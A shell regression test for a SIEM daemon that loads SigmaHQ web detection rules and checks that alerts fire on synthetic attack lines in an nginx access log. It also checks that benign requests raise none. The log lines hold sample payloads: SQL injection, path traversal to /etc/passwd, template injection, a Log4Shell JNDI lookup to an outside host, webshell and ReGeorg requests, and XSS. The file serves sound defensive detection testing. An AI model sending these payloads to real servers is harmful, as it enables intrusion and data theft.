#!/bin/sh
# SigmaHQ's own web rules, unchanged, in a real daemon: the webserver,
# proxy, apache and nginx rules of the corpus are copied into the
# scenario's directory and named by "rules"; real attack lines in nginx
# combined format are appended to a tailed access log, and the API must
# show an alert for each under the SigmaHQ rule made to catch it (its
# Sigma id as rule_id), grouped by the attacker's address.  Ordinary
# requests, and attacks the rules themselves exclude (a 404, a request
# that carries a referer), raise none.
T=sigmahq
. tests/regress/lib.sh
CORPUS=${SIEMD_CORPUS:-$TOP/../shared/corpus}
WEBRULES="$CORPUS/sigma/rules/web"
if [ ! -d "$WEBRULES/webserver_generic" ]; then
	echo "SKIP $T: SigmaHQ web rules not found at $WEBRULES" \
	    "(set SIEMD_CORPUS to the corpus)"
	exit 0
fi
require_root
require_tools curl jq
setup
write_conf
mkdir -m 0755 "$D/web" "$D/rules"
for sub in webserver_generic proxy_generic product/apache product/nginx; do
	[ -d "$WEBRULES/$sub" ] || continue
	mkdir -p "$D/rules/$sub"
	cp "$WEBRULES/$sub"/*.yml "$D/rules/$sub/"
done
chmod -R a+rX "$D/rules"
NFILES=$(find "$D/rules" -name '*.yml' | wc -l)
cat >>"$D/siemd.conf" <<EOT
rules "$D/rules"
tail "$D/web" { match "*.log" format access start beginning }
EOT
start || { fail start "siemd did not start"; finish; }
admin_login
check login [ -n "$TOKEN" ]
U="https://127.0.0.1:$P_API/api/v1"

# get PATH: the JSON answer in $D/get.json
get() {
	curl -sk --max-time 20 -H "$AUTH" "$U$1" >"$D/get.json"
}
rules_seen() {
	get "/rules" && jq -e ".total == $NFILES" "$D/get.json" \
	    >/dev/null 2>&1
}
check "rules-listed" eventually 150 rules_seen
loaded=$(jq '[.data[] | select(.status == "loaded")] | length' "$D/get.json")
notrun=$(jq '[.data[] | select(.status != "loaded")] | length' "$D/get.json")
echo "  SigmaHQ web rules: $NFILES files, $loaded loaded, $notrun skipped or invalid"
jq -r '.data[] | select(.status != "loaded") |
    "    \(.status): \(.title): \(.reason // "")"' "$D/get.json" | head -n 20

# The rules this scenario relies on, by their Sigma id.
SQLI=5513deaf-f49a-46c2-a6c8-3f111b5cb453	# SQL Injection Strings In URI
TRAV=7745c2ea-24a5-4290-b680-04359cb84b35	# Path Traversal Exploitation Attempts
RECON=19aa4f58-94ca-45ff-bc34-92e533c0994a	# Suspicious User-Agents Related To Recon Tools
SSTI=ada3bc4f-f0fd-42b9-ba91-e105e8af7342	# Server Side Template Injection Strings
JNDI=412d55bc-7737-4d25-9542-5b396867ce55	# JNDIExploit Pattern
WSHELL=7ff9db12-1b94-4a79-ba68-a2402c5d6729	# Windows Webshell Strings
REGEORG=2ea44a60-cfda-11ea-87d0-0242ac130003	# Webshell ReGeorg Detection Via Web Logs
XSS=65354b83-a2ea-4ea6-8414-3ab38be0d409	# Cross Site Scripting Strings
for id in $SQLI $TRAV $RECON $SSTI $JNDI $WSHELL $REGEORG $XSS; do
	st=$(jq -r --arg id "$id" '.data[] | select(.id == $id) | .status' \
	    "$D/get.json")
	check "loaded-$id" [ "$st" = loaded ]
done

A="$D/web/access.log"
now=$(date -u '+%d/%b/%Y:%H:%M:%S +0000')
FF='"-" "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"'
cat >>"$A" <<EOT
198.51.100.11 - - [$now] "GET /products.php?id=1%20UNION%20SELECT%20username,password%20FROM%20users-- HTTP/1.1" 200 1534 $FF
198.51.100.12 - - [$now] "GET /cgi-bin/download.cgi?file=../../../../etc/passwd HTTP/1.1" 200 2211 $FF
198.51.100.13 - - [$now] "GET /phpmyadmin/ HTTP/1.1" 404 162 "-" "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)"
198.51.100.14 - - [$now] "GET /greet?name={{7*7}} HTTP/1.1" 200 17 $FF
198.51.100.15 - - [$now] "GET /?x=\${jndi:ldap://203.0.113.50:1389/Basic/Command/Base64/aWQ=} HTTP/1.1" 200 612 "-" "curl/7.81.0"
198.51.100.16 - - [$now] "GET /uploads/cmd.aspx?c=whoami HTTP/1.1" 200 31 $FF
198.51.100.17 - - [$now] "POST /tunnel.jsp?cmd=connect&target=10.0.0.5&port=22 HTTP/1.1" 200 0 "-" "-"
198.51.100.19 - - [$now] "GET /search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E HTTP/1.1" 200 3120 $FF
192.0.2.20 - - [$now] "GET /index.html HTTP/1.1" 200 5120 $FF
192.0.2.21 - - [$now] "GET /search?q=union+station&sort=date HTTP/1.1" 200 8812 "https://shop.example/" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36"
192.0.2.22 - - [$now] "GET /static/app.js?v=3 HTTP/1.1" 304 0 "https://shop.example/search" "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1"
192.0.2.23 - - [$now] "POST /api/jobs?cmd=connect&target=build-7 HTTP/1.1" 202 44 "https://ci.example/jobs" "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
192.0.2.24 - - [$now] "GET /greet?name={{7*7}} HTTP/1.1" 404 0 $FF
192.0.2.25 - - [$now] "GET /products.php?id=1%20UNION%20SELECT%20username,password%20FROM%20users-- HTTP/1.1" 404 0 $FF
EOT

# raised RULE IP: an alert of that rule for that address in the API
raised() {
	get "/alerts?rule_id=$1&limit=500" &&
	    jq -e --arg g "src_ip=$2" --arg id "$1" 'any(.data[];
	    .group_key == $g and .rule_id == $id and .count >= 1)' \
	    "$D/get.json" >/dev/null 2>&1
}
check "sqli-union-select" eventually 150 raised $SQLI 198.51.100.11
check "path-traversal-etc-passwd" eventually 50 raised $TRAV 198.51.100.12
check "recon-ua-nikto" eventually 50 raised $RECON 198.51.100.13
check "ssti-curly-braces" eventually 50 raised $SSTI 198.51.100.14
check "log4shell-jndi-ssti" eventually 50 raised $SSTI 198.51.100.15
check "log4shell-jndiexploit-path" eventually 50 raised $JNDI 198.51.100.15
check "webshell-whoami" eventually 50 raised $WSHELL 198.51.100.16
check "regeorg-no-referer-no-agent" eventually 50 raised $REGEORG 198.51.100.17
check "xss-script-tag" eventually 50 raised $XSS 198.51.100.19

# An alert names its rule: title and author come from the SigmaHQ file.
get "/alerts?rule_id=$TRAV&limit=500"
named() {
	jq -e 'any(.data[]; .title == "Path Traversal Exploitation Attempts"
	    and (.author | test("Subhash Popuri")))' "$D/get.json" >/dev/null
}
check "alert-title-author" named

# Every line went through correlate before the quiet ones are judged.
check "quiet-checked" eventually 100 eval '[ "$("$SIEMCTL" -s "$SOCK" show status | sed -n "s/^correlate .*last_event_id=\([0-9]*\).*/\1/p")" -ge 14 ]'
sleep 2
get "/alerts?limit=500"
benign() {
	! jq -e --arg g "src_ip=$1" 'any(.data[]; .group_key == $g)' \
	    "$D/get.json" >/dev/null
}
check "benign-static-page" benign 192.0.2.20
check "benign-search-with-union" benign 192.0.2.21
check "benign-asset-with-query" benign 192.0.2.22
check "regeorg-bad-with-referer" benign 192.0.2.23
check "ssti-bad-404-filtered" benign 192.0.2.24
check "sqli-bad-404-filtered" benign 192.0.2.25
# one address, one line: no other rule joined in by mistake
check "traversal-only-its-rule" [ "$(jq -r '[.data[] |
    select(.group_key == "src_ip=198.51.100.12") | .rule_id] | unique |
    join(",")' "$D/get.json")" = "$TRAV" ]
check "jndi-two-rules" [ "$(jq -r '[.data[] |
    select(.group_key == "src_ip=198.51.100.15") | .rule_id] | unique |
    length' "$D/get.json")" = 2 ]
stop
check "stop-status-0" [ "$STATUS" = 0 ]
finish
